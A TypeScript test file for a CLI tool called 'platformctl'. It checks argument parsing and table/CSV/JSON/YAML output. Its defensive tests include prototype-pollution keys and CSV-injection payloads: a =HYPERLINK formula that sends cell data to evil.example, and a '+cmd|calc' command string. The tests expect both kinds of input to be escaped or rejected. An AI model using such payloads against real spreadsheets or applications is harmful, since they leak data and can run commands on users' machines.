import { UsageError, parseArgs, parseFilter, parseParams } from './args';
import { render, table } from './output';

describe('platformctl arguments', () => {
  it('reads -p key=value as strings, key:=json as JSON, dotted keys as nested fields', () => {
    expect(parseParams(['name=a=b', 'tags.env=prod', 'size:=3', 'on:=true', 'ids:=["x"]'])).toEqual({ name: 'a=b', tags: { env: 'prod' }, size: 3, on: true, ids: ['x'] });
    expect(() => parseParams(['nothing'])).toThrow(UsageError);
    expect(() => parseParams(['x:={'])).toThrow(/not JSON/);
    for (const bad of ['__proto__.polluted=1', 'a.constructor=1', 'prototype=1']) expect(() => parseParams([bad])).toThrow(UsageError);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('reads -f key<op>value as a condition of the query DSL', () => {
    expect(parseFilter('name=web')).toEqual({ key: 'name', value: 'web', operator: 'eq' });
    expect(parseFilter('data.cpu>=4')).toEqual({ key: 'data.cpu', value: 4, operator: 'gte' });
    expect(parseFilter('state!=DELETED')).toEqual({ key: 'state', value: 'DELETED', operator: 'not' });
    expect(parseFilter('name~a=b')).toEqual({ key: 'name', value: 'a=b', operator: 'contain' });
    expect(parseFilter('name!~tmp')).toEqual({ key: 'name', value: 'tmp', operator: 'not_contain' });
    expect(parseFilter('region_code:us-east-1, eu-west-1')).toEqual({ key: 'region_code', value: ['us-east-1', 'eu-west-1'], operator: 'in' });
    expect(parseFilter('size<10')).toEqual({ key: 'size', value: 10, operator: 'lt' });
    expect(() => parseFilter('novalue')).toThrow(/operators:/);
  });

  it('reads flags, short and long, repeated, and with =', () => {
    const a = parseArgs(['list', 'x.Y', '-p', 'a=1', '--param=b=2', '-o', 'json', '--minimal', '--', '-f']);
    expect(a.positional).toEqual(['list', 'x.Y', '-f']);
    expect(a.values.get('param')).toEqual(['a=1', 'b=2']);
    expect(a.values.get('output')).toEqual(['json']);
    expect(a.switches.has('minimal')).toBe(true);
    expect(() => parseArgs(['-z'])).toThrow(/unknown option -z/);
    expect(() => parseArgs(['-p'])).toThrow(/needs a value/);
  });
});

describe('platformctl output', () => {
  const rows = [
    { id: 'pg-1', name: 'a fairly long project group name', tags: { env: 'prod' } },
    { id: 'pg-2', name: 'short', tags: {} },
  ];

  it('fits a table to the width: the widest column gives way, then columns are left out', () => {
    expect(table(rows, { format: 'table' })).toBe(
      'ID    NAME                              TAGS\npg-1  a fairly long project group name  {"env":"prod"}\npg-2  short                             {}\n',
    );
    const fitted = table(rows, { format: 'table', width: 40 });
    for (const line of fitted.trimEnd().split('\n')) expect(line.length).toBeLessThanOrEqual(40);
    expect(fitted).toMatch(/a fairly long pro…/);
    const narrow = table(rows, { format: 'table', width: 20 });
    expect(narrow.split('\n')[0]).toBe('ID    NAME');
    expect(narrow.split('\n')[3]).toMatch(/^\(1 more column: tag/);
  });

  it('writes csv with quoting, and json / yaml whole', () => {
    expect(render({ results: [{ a: 'x,y', b: 'say "hi"', c: null }] }, { format: 'csv' })).toBe('a,b,c\r\n"x,y","say ""hi""",\r\n');
    expect(render({ a: 1 }, { format: 'yaml' })).toBe('a: 1\n');
    expect(JSON.parse(render({ results: [], total_count: 0 }, { format: 'json' }))).toEqual({ results: [], total_count: 0 });
  });

  it('writes csv cells that would start a spreadsheet formula with a leading quote (CSV injection); typed numbers stay numbers', () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    expect(render({ results: [{ name: evil, note: '+cmd|calc' }] }, { format: 'csv' })).toBe(`name,note\r\n"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'+cmd|calc\r\n`);
    const row = { a: '@x', b: '-x', c: '\t=1', d: '\r=1', n: -5, s: '-5', i: -Infinity };
    expect(render({ results: [row] }, { format: 'csv' })).toBe(`a,b,c,d,n,s,i\r\n'@x,'-x,'\t=1,"'\r=1",-5,'-5,'-Infinity\r\n`);
    expect(render({ results: [{ '=h': 1 }] }, { format: 'csv' })).toBe(`'=h\r\n1\r\n`);
  });
});
